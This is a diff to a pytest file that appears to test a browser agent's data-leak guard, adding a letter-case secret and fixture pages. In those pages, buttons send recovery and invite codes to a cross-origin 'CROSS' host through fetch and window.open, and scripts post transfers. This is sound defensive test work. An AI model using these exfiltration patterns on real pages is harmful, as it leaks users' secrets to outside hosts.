@@ -21,6 +21,8 @@ import pytest
 
 SECRET = "ZX44719920QQ"
 """What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
+CASE_SECRET = "qWmZbXkRt"
+"""A code of letters only, data by its letter case alone (an upper-case letter right after a lower-case one)."""
 LATER_MS = 4500
 """How long the "later" buttons wait before their page sends: past any window an action's hold kept open."""
 
@@ -95,7 +97,8 @@ PAGES: dict[str, str] = {
   f.n.value = '5555 5555 5555 4444'; f.submit()">Continue</button>
 <a id="blank-get" href="/land?from=basket" target="_blank">Delivery times</a>
 <form method="post" action="/api/notes" target="_blank"><input name="note" value="hello"><button id="blank-plain">Keep</button></form>
-<button id="open-early" onclick="window.open('/p/early-post')">Notes</button>""",
+<button id="open-early" onclick="window.open('/p/early-post')">Notes</button>
+<button id="open-notes" onclick="window.open('/p/notes-popup')">Open notes</button>""",
     "early-post": """<title>Early</title><p>Saving</p>
 <script>fetch('/api/drafts/early', {method: 'POST', body: 'note=hello'})
   .then((r) => { document.title = 'early sent ' + r.status; }, () => { document.title = 'early failed'; });</script>""",
@@ -126,18 +129,23 @@ for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src 
     "frame-inner": """<title>Inner</title><p>frame</p>
 <script>addEventListener('message', () => fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=5'}));</script>""",
     "secret": f"""<title>Account</title><h1>Your account</h1><p>Your recovery code is {SECRET}.</p>
+<p>Your invite word is {CASE_SECRET}.</p>
 <form method="get" action="CROSS/search"><input type="hidden" name="q" value="{SECRET}"><button id="find">Find</button></form>
 <a id="out" href="/redirect?to=CROSS/land%3Fref%3D{SECRET}">Next page</a>
 <button id="leak" onclick="fetch('CROSS/collect?d={SECRET}', {{mode: 'no-cors'}})">Share</button>
 <button id="count-cross" onclick="fetch('CROSS/collect?e=view', {{mode: 'no-cors'}})">Count</button>
+<button id="leak-case-path" onclick="fetch('CROSS/c/{CASE_SECRET}', {{mode: 'no-cors'}})">More</button>
 <a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>
 <button id="find-later" onclick="setTimeout(() => document.forms[0].submit(), LATER_MS)">Look up</button>
 <button id="go-later" onclick="setTimeout(() => {{ location.href = 'CROSS/land?ref={SECRET}'; }}, LATER_MS)">Continue</button>
 <button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>
 <button id="open-path-leak" onclick="window.open('CROSS/u/{SECRET}')">Profile</button>
+<button id="open-case-leak" onclick="window.open('CROSS/go/{CASE_SECRET}')">Invite</button>
 <button id="open-path-digits" onclick="window.open('CROSS/guides/2024/delivery')">Guide</button>
 <button id="open-path-words" onclick="window.open('CROSS/help/delivery-times')">Help</button>""",
 }
+PAGES["notes-popup"] = PAGES["post"]
+"""The `post` page in a popup the `popup` page opens (a script-opened window, which may close itself)."""
 WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
 SW_JS = ("self.addEventListener('activate', (e) => e.waitUntil(clients.claim()));"
          "self.addEventListener('message', (e) => e.waitUntil(fetch(e.data, {method: 'POST', body: 'amount=4'})));")
